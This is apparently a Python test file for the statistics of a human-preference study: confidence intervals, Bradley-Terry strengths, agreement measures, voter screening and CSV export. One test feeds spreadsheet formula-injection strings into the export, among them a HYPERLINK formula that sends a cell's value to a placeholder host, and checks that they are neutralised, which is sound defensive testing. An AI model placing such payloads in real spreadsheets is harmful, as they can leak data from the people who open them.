"""The study's results maths against small cases worked out by hand, and the intervals against designs whose answer
is known: clustered by pairs, a study of 4 pairs cannot say much; 12 pairs all favouring one side at 0.8 can."""

from __future__ import annotations

import csv
import io
import math

import pytest

from popcorn.study import analysis as A


def vote(person, item, choice, ca="pe", cb="basic", side=None, task=0, check_of=None, h_a=None, h_b=None,
         prompt_type="abstract", category="Food", gold=None, flags=""):
    return {"participant": person, "item": item, "choice": choice, "condition_a": ca, "condition_b": cb,
            "side": side or {"a": "left", "b": "right"}.get(choice, choice), "task": task, "check_of": check_of,
            "h_a": h_a, "h_b": h_b, "prompt_type": prompt_type, "category": category, "gold": gold, "flags": flags}


def test_wilson_matches_the_formula_worked_by_hand():
    # 8 of 10, z = 1.96: centre (0.8 + 0.19208) / 1.38416 = 0.71683; half 1.96 sqrt(0.016 + 0.0096040) / 1.38416
    lo, hi = A.wilson(8, 10)
    assert lo == pytest.approx(0.49016, abs=1e-4) and hi == pytest.approx(0.94332, abs=1e-4)
    assert A.wilson(0, 0) == (0.0, 1.0)
    lo, hi = A.wilson(0, 5)
    assert lo == 0.0 and hi == pytest.approx(0.43449, abs=1e-4)


def test_binomial_tests_by_hand():
    assert A.binom_two_sided(10, 10) == pytest.approx(2 / 1024)  # all ten on one side
    assert A.binom_two_sided(5, 10) == pytest.approx(1.0)
    # P(X <= 1 | 10, 0.5) = 11 / 1024
    assert A.binom_cdf(1, 10, 0.5) == pytest.approx(11 / 1024)
    # two-sided for 2 of 10: P(X<=2) + P(X>=8) = 2 * 56 / 1024
    assert A.binom_two_sided(2, 10) == pytest.approx(112 / 1024)


def test_win_rates_count_ties_three_ways():
    votes = [vote("p1", "i1", "a"), vote("p2", "i1", "a"), vote("p3", "i1", "b"), vote("p1", "i2", "tie"),
             vote("p2", "i2", "both_bad"), vote("p3", "i2", "a"),
             vote("p3", "i2", "b", task=5, check_of=0)]  # an attention repeat: never counted as a vote
    (row,) = A.win_rates(votes, bootstrap=0)
    assert (row["x"], row["y"]) == ("basic", "pe")  # ordered by name: x = basic
    assert (row["votes"], row["x_wins"], row["y_wins"], row["ties"], row["both_bad"]) == (6, 1, 3, 1, 1)
    assert row["apart"]["rate"] == pytest.approx(0.25)  # 1 of 4 decisive
    assert row["half"]["rate"] == pytest.approx((1 + 0.5 * 2) / 6, abs=1e-4)
    assert row["share"]["rate"] == pytest.approx(1 / 6, abs=1e-4)
    assert row["apart"]["wilson_ci95"] == [round(v, 4) for v in A.wilson(1, 4)]
    assert row["apart"]["ci95"] is None and "needs 2+" in row["apart"]["ci95_method"]  # no bootstrap asked


def test_bradley_terry_two_players_is_the_win_ratio():
    comps = [("x", "y", 1.0)] * 3 + [("y", "x", 1.0)]
    s = A.bradley_terry(comps)
    assert s["x"] / s["y"] == pytest.approx(3.0, rel=1e-6)
    assert math.sqrt(s["x"] * s["y"]) == pytest.approx(1.0)  # geometric mean 1
    assert s["__prior__"] == 0.0


def test_bradley_terry_three_players_satisfies_the_likelihood_equations():
    comps = [("a", "b", 1.0)] * 6 + [("b", "a", 1.0)] * 2 + [("b", "c", 1.0)] * 5 + [("c", "b", 1.0)] * 3 \
        + [("a", "c", 1.0)] * 4 + [("c", "a", 1.0)] * 1
    s = A.bradley_terry(comps)
    wins = {"a": 10, "b": 7, "c": 4}
    games = {frozenset("ab"): 8, frozenset("bc"): 8, frozenset("ac"): 5}
    for p in "abc":  # at the MLE each player's wins equal their expected wins
        expected = sum(n * s[p] / (s[p] + s[q]) for pair, n in games.items() if p in pair for q in pair - {p})
        assert expected == pytest.approx(wins[p], rel=1e-6)
    assert s["a"] > s["b"] > s["c"]


def test_bradley_terry_undefeated_player_uses_the_stated_prior():
    s = A.bradley_terry([("x", "y", 1.0)] * 4)
    assert s["__prior__"] == 0.5 and math.isfinite(s["x"]) and s["x"] / s["y"] == pytest.approx(4.5 / 0.5)


def test_fleiss_kappa_by_hand():
    # 3 units x 3 raters, categories (a, b): [3,0], [0,3], [2,1]
    # P_i = 1, 1, (4+1-3)/6 = 1/3 -> P_bar = 7/9; p = (5/9, 4/9) -> P_e = 41/81; kappa = (7/9 - 41/81) / (40/81)
    kappa = A.fleiss_kappa([[3, 0], [0, 3], [2, 1]])
    assert kappa == pytest.approx((7 / 9 - 41 / 81) / (40 / 81))
    assert A.fleiss_kappa([[2, 0], [0, 2]]) == pytest.approx(1.0)
    assert A.fleiss_kappa([[1, 0]]) is None


def test_krippendorff_alpha_by_hand():
    # units [2,0] and [1,1]: coincidences o_aa = 2, o_ab = o_ba = 1; n_a = 3, n_b = 1, n = 4
    # alpha = 1 - (n - 1) * D_o / sum_{c!=k} n_c n_k = 1 - 3 * 2 / 6 = 0
    assert A.krippendorff_alpha_nominal([[2, 0], [1, 1]]) == pytest.approx(0.0)
    assert A.krippendorff_alpha_nominal([[2, 0], [0, 2]]) == pytest.approx(1.0)


def test_repeats_compare_in_pair_terms_and_a_tie_is_not_a_flip():
    votes = [vote("p1", "i1", "a", side="left", task=0), vote("p1", "i1", "a", side="right", task=3, check_of=0),
             vote("p2", "i1", "a", side="left", task=0), vote("p2", "i1", "b", side="left", task=2, check_of=0),
             vote("p3", "i1", "a", side="left", task=0), vote("p3", "i1", "tie", task=2, check_of=0)]
    checks = A.attention(votes)
    assert {p: c["flips"] for p, c in checks.items()} == {"p1": 0, "p2": 1, "p3": 0}
    assert all(c["repeats"] == 1 for c in checks.values())
    # one changed answer on a repeat is reported, never an exclusion by default
    assert all(r["flags"] == [] for r in A.screen(votes))
    flagged = {r["participant"]: r["flags"] for r in A.screen(votes, {"repeat_flips": 1})}
    assert flagged == {"p1": [], "p2": ["repeat-flips"], "p3": []}


def test_gold_checks_fail_only_on_the_frozen_video_and_count_as_no_vote():
    gold = dict(ca="intact", cb="frozen", gold="b")
    votes = [vote("p1", "g0", "a", **gold), vote("p2", "g0", "b", **gold), vote("p3", "g0", "tie", **gold),
             vote("p1", "i1", "a"), vote("p2", "i1", "a"), vote("p3", "i1", "b")]
    checks = A.attention(votes)
    assert [(checks[p]["failed"], checks[p]["unsure"]) for p in ("p1", "p2", "p3")] == [(0, 0), (1, 0), (0, 1)]
    result = A.analyse(votes, bootstrap=0)
    assert result["flagged"] == ["p2"] and result["first_showings"] == 3
    assert [(r["x"], r["y"]) for r in result["win_rates"]] == [("basic", "pe")]  # gold is not a comparison
    assert A.analyse(votes, bootstrap=0, plan={"exclusion": {"gold_failures": 2}, "primary": {"x": "basic", "y": "pe"},
                                               "tie_rule": "apart"})["flagged"] == []


def test_a_tie_is_not_disagreement_with_the_crowd():
    votes = []
    for i in range(10):
        for person in ("h1", "h2", "h3"):
            votes.append(vote(person, f"i{i}", "a", side="left" if (i + len(person)) % 2 else "right", task=i))
        votes.append(vote("careful", f"i{i}", "tie" if i % 2 else "both_bad", task=i))
    row = next(r for r in A.screen(votes) if r["participant"] == "careful")
    assert (row["crowd_agree"], row["crowd_pairs"], row["flags"]) == (0, 0, [])


def test_screening_flags_one_sided_constant_and_off_crowd_voters():
    votes = []
    for i in range(10):  # four honest voters agree: a wins each pair; they press both sides
        for person in ("h1", "h2", "h3", "h4"):
            votes.append(vote(person, f"i{i}", "a", side="left" if (i + len(person)) % 2 else "right", task=i))
        votes.append(vote("lefty", f"i{i}", "a" if i % 2 else "b", side="left", task=i))  # always the left button
        votes.append(vote("contra", f"i{i}", "b", side="left" if i % 2 else "right", task=i))  # always against
        votes.append(vote("ties", f"i{i}", "tie", task=i))
    flags = {r["participant"]: r["flags"] for r in A.screen(votes)}
    assert "one-sided" in flags["lefty"]  # 10 of 10 left: p = 2/1024 < 0.01
    assert "constant" in flags["ties"]  # the tie button every time
    assert flags["contra"] == ["off-crowd"]  # agrees 0 of 10 with the others' majority, pressing both sides
    assert all(flags[p] == [] for p in ("h1", "h2", "h3", "h4"))
    result = A.analyse(votes, bootstrap=50)
    assert set(result["flagged"]) == {"lefty", "contra", "ties"}
    (kept,) = result["screened"]["win_rates"]
    assert kept["y_wins"] == 40 and kept["x_wins"] == 0  # only the honest voters remain (y = pe = "a" side)


def test_h_agreement_by_pair_majority():
    votes = [vote("p1", "i1", "a", h_a=10, h_b=5), vote("p2", "i1", "a", h_a=10, h_b=5),  # h right
             vote("p1", "i2", "b", h_a=10, h_b=5), vote("p2", "i2", "b", h_a=10, h_b=5),  # h wrong
             vote("p1", "i3", "a", h_a=1, h_b=9), vote("p2", "i3", "b", h_a=1, h_b=9),  # no majority
             vote("p1", "i4", "a", h_a=None, h_b=2)]  # not scored
    h = A.h_agreement(votes)
    assert (h["pairs"]["k"], h["pairs"]["n"]) == (1, 2)
    assert (h["votes"]["k"], h["votes"]["n"]) == (3, 6)
    assert h["pairs_skipped_no_h"] == 1
    assert [(p["item"], p["h_prefers"], p["people_prefer"], p["agrees"]) for p in h["per_pair"]] == [
        ("i1", "a", "a", True), ("i2", "a", "b", False), ("i3", "b", None, None)]
    assert h["votes"]["ci95_method"] == A.TWO_WAY and h["pairs"]["ci95_method"].startswith("Wilson over pairs")


def test_breakdowns_and_bootstrap_interval_contain_the_estimate():
    votes = [vote(f"p{i}", f"i{j}", "a" if (i + j) % 3 else "b", prompt_type="abstract" if j < 3 else "concrete",
                  category="Food" if j % 2 else "Pets") for i in range(8) for j in range(6)]
    result = A.analyse(votes, bootstrap=300)
    assert set(result["by_prompt_type"]) == {"abstract", "concrete"}
    assert set(result["by_category"]) == {"Food", "Pets"}
    total = sum(rows[0]["votes"] for rows in result["by_prompt_type"].values())
    assert total == len(votes)
    row = result["win_rates"][0]
    lo, hi = row["apart"]["ci95"]
    assert lo <= row["apart"]["rate"] <= hi
    for table in ("by_prompt_type", "by_category"):  # the breakdowns carry the same two-way interval
        for rows in result[table].values():
            assert rows[0]["apart"]["ci95_method"] == A.TWO_WAY
            assert rows[0]["apart"]["ci95"][0] <= rows[0]["apart"]["rate"] <= rows[0]["apart"]["ci95"][1]
    bt = result["bradley_terry"]["strengths"]
    assert bt["pe"]["ci95"][0] <= bt["pe"]["strength"] <= bt["pe"]["ci95"][1]


def test_votes_csv_has_one_row_per_vote():
    votes = [vote("p1", "i1", "a") | {"vote": 1, "run_a": "r1", "run_b": "r2"}]
    text = A.votes_csv(votes)
    assert text.splitlines()[0].split(",") == A.VOTE_COLUMNS and len(text.splitlines()) == 2


def test_votes_csv_keeps_a_typed_reason_from_running_as_a_formula():
    typed = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "fine, =1 inside"]
    votes = [vote("p1", f"i{i}", "a") | {"vote": i, "reason": r} for i, r in enumerate(typed)]
    rows = list(csv.DictReader(io.StringIO(A.votes_csv(votes))))
    assert [r["reason"] for r in rows] == ["'" + r for r in typed[:4]] + [typed[4]]
    assert [r["participant"] for r in rows] == ["p1"] * 5 and rows[0]["choice"] == "a"


def test_the_interval_resamples_participants_as_well_as_pairs():
    # 20 wins and 20 losses of x = basic on 20 pairs: from two people who each always pick one side the interval spans
    # everything; from 40 people with one vote each it is narrow
    two = [vote("p0", f"i{j}", "b") for j in range(20)] + [vote("p1", f"i{j}", "a") for j in range(20)]
    many = [vote(f"p{j}", f"i{j % 20}", "b" if j < 20 else "a") for j in range(40)]
    (row_two,), (row_many,) = A.win_rates(two, bootstrap=400), A.win_rates(many, bootstrap=400)
    assert row_two["apart"]["rate"] == row_many["apart"]["rate"] == 0.5
    assert row_two["apart"]["ci95"] == [0.0, 1.0]
    lo, hi = row_many["apart"]["ci95"]
    assert 0.25 < lo < 0.5 < hi < 0.75
    (alone,) = A.win_rates([vote("p0", "i1", "a"), vote("p0", "i2", "b"), vote("p1", "i1", "tie")], bootstrap=100)
    assert alone["apart"]["ci95"] is None  # one person with decisive votes: nothing to resample between


def test_four_pairs_split_two_and_two_give_a_wide_interval():
    # the design: 2 pairs everyone gives to A, 2 everyone gives to B; 30 people see all four
    votes = [vote(f"p{k}", f"i{j}", "a" if j < 2 else "b", side="left" if (j + k) % 2 else "right", task=j)
             for k in range(30) for j in range(4)]
    (row,) = A.win_rates(votes, bootstrap=2000)
    assert row["apart"]["rate"] == 0.5
    lo, hi = row["apart"]["ci95"]
    assert lo <= 0.1 and hi >= 0.9  # 4 pairs can say almost nothing: a pair draw of four "a" pairs is 1 in 16
    assert row["apart"]["wilson_ci95"][1] - row["apart"]["wilson_ci95"][0] < 0.2  # votes-only: falsely narrow
    assert row["apart"]["ci95_method"] == A.TWO_WAY


def test_every_pair_favouring_one_side_at_80_percent_excludes_a_half():
    import random

    rng = random.Random(7)
    votes = [vote(f"p{k}", f"i{j}", "a" if rng.random() < 0.8 else "b", task=j,
                  side="left" if (j + k) % 2 else "right") for k in range(25) for j in range(12)]
    (row,) = A.win_rates(votes, bootstrap=2000)
    lo, hi = row["apart"]["ci95"]  # x = basic, the "b" side: about 0.2
    assert hi < 0.5 and lo <= row["apart"]["rate"] <= hi


def test_bradley_terry_says_when_fords_condition_fails():
    # x always beats y, y always beats z: the graph x -> y -> z has no way back; no strengths, the groups named
    votes = ([vote(f"p{k}", "i1", "a", ca="x", cb="y") for k in range(4)]
             + [vote(f"p{k}", "i2", "a", ca="y", cb="z") for k in range(4)])
    bt = A.strengths(votes, bootstrap=20)
    assert bt["ford"] == {"holds": False, "groups": [["x"], ["y"], ["z"]]} and bt["strengths"] == {}
    assert "Ford's condition fails" in bt["note"]
    # one win of z over x closes the cycle: strongly connected, finite strengths in the order of the wins
    votes.append(vote("p9", "i3", "a", ca="z", cb="x"))
    bt = A.strengths(votes, bootstrap=50)
    assert bt["ford"]["holds"] and len(bt["strengths"]) == 3
    assert all(math.isfinite(s["strength"]) for s in bt["strengths"].values())
    # a tie links both ways
    assert A.ford_groups(A._comparisons([vote("p1", "i1", "tie", ca="x", cb="y")]), ["x", "y"]) == [["x", "y"]]
